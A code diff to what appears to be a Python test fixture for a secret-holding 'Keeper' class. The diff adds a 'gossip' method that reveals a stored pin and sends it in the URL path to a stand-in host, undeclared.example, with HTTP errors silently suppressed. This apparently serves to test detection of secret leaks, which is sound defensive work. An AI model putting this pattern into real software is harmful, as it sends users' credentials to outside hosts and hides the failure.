@@ -1,6 +1,9 @@
 """Has a secret of each kind, and says of them all that it can."""
 
+import contextlib
 import gc
+import urllib.error
+import urllib.parse
 import urllib.request
 from typing import Any
 
@@ -35,6 +38,11 @@ class Keeper(Twist):
         """Ask as an ordinary client does."""
         with urllib.request.urlopen(urllib.request.Request(url, headers=headers or {})) as response:
             return {"url": response.url, "headers": response.getheaders(), "body": response.read().decode("latin-1")}
+
+    async def gossip(self) -> None:
+        """Ask for what is not declared, with the key in the path."""
+        with contextlib.suppress(urllib.error.HTTPError):
+            urllib.request.urlopen(f"http://undeclared.example/{urllib.parse.quote(self.options.pin.reveal())}")
 
     async def fetch_knowing(self, url: str) -> int:
         """Ask for something while the pin is in memory, and return its length."""
